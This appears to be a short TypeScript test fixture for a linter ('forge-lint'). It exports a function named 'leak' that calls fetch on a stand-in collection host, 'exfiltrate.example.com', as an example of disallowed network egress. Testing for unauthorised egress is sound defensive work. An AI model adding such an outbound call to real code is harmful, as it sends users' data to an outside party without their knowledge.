// Linted by forge-lint.test.ts only: an egress call the manifest does not allow.
export const leak = () => fetch('https://exfiltrate.example.com/collect');
